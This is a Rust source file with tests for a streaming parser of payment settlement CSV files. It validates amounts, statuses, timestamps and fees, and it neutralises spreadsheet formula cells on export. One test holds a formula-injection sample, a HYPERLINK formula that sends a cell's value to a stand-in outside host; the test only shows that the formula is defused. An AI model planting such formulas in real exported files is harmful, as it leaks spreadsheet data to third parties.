//! Strict, streaming parser of the generic settlement CSV:
//! `gateway_txn_no,txn_ref,amount,status,paid_at,bank_code,fee`. Bytes are pushed in chunks as
//! they arrive; each complete row is validated and handed back, so a file of any size is never
//! held in memory. Problems name `line <n>, column <name>` (the header is line 1).

use chrono::{DateTime, Utc};
use csv_core::{ReadFieldResult, Reader};

use crate::error::FieldError;

pub const HEADER: [&str; 7] = [
    "gateway_txn_no",
    "txn_ref",
    "amount",
    "status",
    "paid_at",
    "bank_code",
    "fee",
];
/// One text cell of a CSV export: a cell that a spreadsheet would run as a formula (it begins
/// with `=`, `+`, `-`, `@`, TAB or CR) is prefixed with `'`; then it is quoted when it needs to be.
/// Money columns are written as plain integers and never pass through here.
pub fn text_cell(s: &str) -> String {
    let neutral = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{s}")
    } else {
        s.to_owned()
    };
    if neutral.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", neutral.replace('"', "\"\""))
    } else {
        neutral
    }
}

/// Past this many problems the parser stops collecting (the file is refused either way).
pub const MAX_ERRORS: usize = 200;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RowStatus {
    Success,
    Failed,
    Refunded,
}

impl RowStatus {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Success => "success",
            Self::Failed => "failed",
            Self::Refunded => "refunded",
        }
    }
}

/// One statement row.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct StatementRow {
    pub line: u64,
    pub gateway_txn_no: String,
    pub txn_ref: String,
    /// Gross, whole đồng.
    pub amount: i64,
    pub status: RowStatus,
    pub paid_at: DateTime<Utc>,
    pub bank_code: Option<String>,
    /// Stored, not compared.
    pub fee: i64,
}

/// A push parser: feed chunks, take rows.
pub struct StatementParser {
    reader: Reader,
    field: Vec<u8>,
    fields: Vec<String>,
    line: u64,
    header_seen: bool,
    pub errors: Vec<FieldError>,
    pub rows: u64,
    /// The sum of the rows' amounts so far: a file whose sum does not fit in 64 bits is refused.
    total: i64,
}

impl Default for StatementParser {
    fn default() -> Self {
        Self::new()
    }
}

impl StatementParser {
    pub fn new() -> Self {
        Self {
            reader: Reader::new(),
            field: Vec::new(),
            fields: Vec::new(),
            line: 0,
            header_seen: false,
            errors: Vec::new(),
            rows: 0,
            total: 0,
        }
    }

    /// Parses `chunk`, calling `on_row` for each valid row.
    pub fn push(&mut self, chunk: &[u8], on_row: &mut dyn FnMut(StatementRow)) {
        if !chunk.is_empty() {
            self.feed(chunk, false, on_row);
        }
    }

    /// Ends the input; returns all problems (empty = the file is valid).
    pub fn finish(mut self, on_row: &mut dyn FnMut(StatementRow)) -> (u64, Vec<FieldError>) {
        self.feed(&[], true, on_row);
        if !self.header_seen {
            self.errors.push(FieldError::new(
                "line 1",
                format!(
                    "the file is empty; expected the header {}",
                    HEADER.join(",")
                ),
            ));
        }
        (self.rows, self.errors)
    }

    /// Feeds `input`; csv-core reads an empty input as the end of the file, so an empty slice
    /// is passed only when `eof`.
    fn feed(&mut self, mut input: &[u8], eof: bool, on_row: &mut dyn FnMut(StatementRow)) {
        let mut out = [0u8; 4096];
        loop {
            if input.is_empty() && !eof {
                break;
            }
            let (result, nin, nout) = self.reader.read_field(input, &mut out);
            input = &input[nin..];
            self.field.extend_from_slice(&out[..nout]);
            match result {
                ReadFieldResult::InputEmpty => break,
                ReadFieldResult::OutputFull => continue,
                ReadFieldResult::Field { record_end } => {
                    let text = String::from_utf8(std::mem::take(&mut self.field));
                    self.fields.push(
                        text.unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned()),
                    );
                    if record_end {
                        let fields = std::mem::take(&mut self.fields);
                        self.record(fields, on_row);
                    }
                }
                ReadFieldResult::End => break,
            }
        }
    }

    fn record(&mut self, fields: Vec<String>, on_row: &mut dyn FnMut(StatementRow)) {
        self.line += 1;
        let line = self.line;
        if fields.len() == 1 && fields[0].trim().is_empty() {
            return; // a blank line
        }
        if !self.header_seen {
            self.header_seen = true;
            self.header(line, &fields);
            return;
        }
        if fields.len() != HEADER.len() {
            self.error(
                line,
                "*",
                format!("has {} columns, expected {}", fields.len(), HEADER.len()),
            );
            return;
        }
        let before = self.errors.len();
        let row = self.row(line, &fields);
        if self.errors.len() == before {
            self.rows += 1;
            on_row(row);
        }
    }

    fn header(&mut self, line: u64, fields: &[String]) {
        let names: Vec<&str> = fields
            .iter()
            .map(|f| f.trim().trim_start_matches('\u{feff}'))
            .collect();
        if names != HEADER {
            self.error(
                line,
                "header",
                format!("must be exactly {}", HEADER.join(",")),
            );
        }
    }

    /// A data line as a row; each problem is recorded (the row is then not to be used).
    fn row(&mut self, line: u64, fields: &[String]) -> StatementRow {
        let get = |i: usize| fields[i].trim();
        let txn_ref = get(1).to_owned();
        if txn_ref.is_empty() || txn_ref.len() > 100 {
            self.error(line, "txn_ref", "must be 1 to 100 characters");
        }
        // References are matched against the ledger and stored with the findings: a control
        // character (NUL above all, which PostgreSQL text cannot hold) is no reference.
        for (column, i) in [("gateway_txn_no", 0), ("txn_ref", 1), ("bank_code", 5)] {
            if get(i).chars().any(char::is_control) {
                self.error(line, column, "must not contain control characters");
            }
        }
        let amount = match get(2).parse::<i64>() {
            Ok(a) if a > 0 => a,
            _ => {
                self.error(line, "amount", "must be a whole number of đồng > 0");
                0
            }
        };
        match self.total.checked_add(amount) {
            Some(t) => self.total = t,
            None => self.error(
                line,
                "amount",
                "brings the file's total past 9,223,372,036,854,775,807 đ",
            ),
        }
        let status = match get(3) {
            "success" => RowStatus::Success,
            "failed" => RowStatus::Failed,
            "refunded" => RowStatus::Refunded,
            _ => {
                self.error(line, "status", "must be success, failed or refunded");
                RowStatus::Failed
            }
        };
        let paid_at = match DateTime::parse_from_rfc3339(get(4)) {
            Ok(t) => t.with_timezone(&Utc),
            Err(_) => {
                self.error(line, "paid_at", "must be an RFC 3339 time with offset");
                DateTime::<Utc>::MIN_UTC
            }
        };
        let fee = match get(6) {
            "" => 0,
            f => f
                .parse::<i64>()
                .ok()
                .filter(|f| *f >= 0)
                .unwrap_or_else(|| {
                    self.error(line, "fee", "must be a whole number of đồng ≥ 0");
                    0
                }),
        };
        StatementRow {
            line,
            gateway_txn_no: get(0).to_owned(),
            txn_ref,
            amount,
            status,
            paid_at,
            bank_code: Some(get(5).to_owned()).filter(|b| !b.is_empty()),
            fee,
        }
    }

    fn error(&mut self, line: u64, column: &str, message: impl Into<String>) {
        if self.errors.len() < MAX_ERRORS {
            self.errors.push(FieldError::new(
                format!("line {line}, column {column}"),
                message,
            ));
        }
    }
}

#[cfg(test)]
mod tests {
    #![allow(clippy::unwrap_used)]
    use super::*;

    fn parse_all(text: &str, chunk: usize) -> (Vec<StatementRow>, Vec<FieldError>) {
        let mut p = StatementParser::new();
        let mut rows = Vec::new();
        for c in text.as_bytes().chunks(chunk) {
            p.push(c, &mut |r| rows.push(r));
        }
        let (_, errors) = p.finish(&mut |r| rows.push(r));
        (rows, errors)
    }

    const GOOD: &str = "gateway_txn_no,txn_ref,amount,status,paid_at,bank_code,fee\n\
        14226112,REF1,45000000,success,2026-11-20T10:15:00+07:00,NCB,11000\n\
        0,REF2,1000,failed,2026-11-20T11:00:00+07:00,,\n";

    #[test]
    fn rows_parse_whatever_the_chunking() {
        for chunk in (1..=40).chain([64, 4096]) {
            let (rows, errors) = parse_all(GOOD, chunk);
            assert!(errors.is_empty(), "{errors:?}");
            assert_eq!(rows.len(), 2);
            assert_eq!(rows[0].amount, 45_000_000);
            assert_eq!(rows[0].line, 2);
            assert_eq!(rows[1].status, RowStatus::Failed);
            assert_eq!(rows[1].bank_code, None);
        }
    }

    #[test]
    fn each_problem_names_line_and_column() {
        let bad = "gateway_txn_no,txn_ref,amount,status,paid_at,bank_code,fee\n1,REF1,12.5,paid,yesterday,NCB,-1\n2,REF2,5\n";
        let (rows, errors) = parse_all(bad, 5);
        assert!(rows.is_empty());
        let fields: Vec<&str> = errors.iter().map(|e| e.field.as_str()).collect();
        assert_eq!(
            fields,
            vec![
                "line 2, column amount",
                "line 2, column status",
                "line 2, column paid_at",
                "line 2, column fee",
                "line 3, column *"
            ]
        );
    }

    #[test]
    fn a_file_whose_total_overflows_is_refused() {
        let text = format!(
            "{}\n1,A,{max},success,2026-11-20T10:15:00Z,,\n2,B,{max},success,2026-11-20T10:15:00Z,,\n",
            HEADER.join(","),
            max = i64::MAX
        );
        let (_, errors) = parse_all(&text, 7);
        assert_eq!(errors.len(), 1, "{errors:?}");
        assert_eq!(errors[0].field, "line 3, column amount");
    }

    #[test]
    fn a_wrong_header_or_empty_file_is_refused() {
        let (_, errors) = parse_all("ref,amount\n", 8);
        assert_eq!(errors[0].field, "line 1, column header");
        let (_, errors) = parse_all("", 8);
        assert_eq!(errors[0].field, "line 1");
    }

    #[test]
    fn formula_cells_are_neutralised_and_quoted() {
        assert_eq!(text_cell("=1+1"), "'=1+1");
        assert_eq!(text_cell("@SUM(1+1)"), "'@SUM(1+1)");
        assert_eq!(text_cell("-2+3"), "'-2+3");
        assert_eq!(text_cell("+123"), "'+123");
        assert_eq!(text_cell("\tx"), "'\tx");
        assert_eq!(text_cell("\rx"), "\"'\rx\"");
        assert_eq!(
            text_cell("=HYPERLINK(\"http://e/?x=\"&A1,\"c\")"),
            "\"'=HYPERLINK(\"\"http://e/?x=\"\"&A1,\"\"c\"\")\""
        );
        assert_eq!(text_cell("HN-VPDKDD"), "HN-VPDKDD");
        assert_eq!(text_cell("a,b"), "\"a,b\"");
    }

    #[test]
    fn control_characters_in_a_reference_are_refused_naming_the_column() {
        let header = "gateway_txn_no,txn_ref,amount,status,paid_at,bank_code,fee\n";
        for (row, column) in [
            (
                "1,AB\u{0}CD,100,success,2026-12-02T10:15:00+07:00,NCB,0\n",
                "txn_ref",
            ),
            (
                "1\u{0},REF,100,success,2026-12-02T10:15:00+07:00,NCB,0\n",
                "gateway_txn_no",
            ),
            (
                "1,REF,100,success,2026-12-02T10:15:00+07:00,N\u{1}CB,0\n",
                "bank_code",
            ),
        ] {
            let (rows, errors) = parse_all(&format!("{header}{row}"), 7);
            assert!(rows.is_empty(), "{column}");
            assert_eq!(errors[0].field, format!("line 2, column {column}"));
        }
    }

    #[test]
    fn quoted_fields_and_crlf_are_fine() {
        let text = "gateway_txn_no,txn_ref,amount,status,paid_at,bank_code,fee\r\n\"1\",\"REF,1\",100,success,2026-11-20T10:15:00Z,\"NCB\",0\r\n";
        let (rows, errors) = parse_all(text, 4);
        assert!(errors.is_empty(), "{errors:?}");
        assert_eq!(rows[0].txn_ref, "REF,1");
    }
}
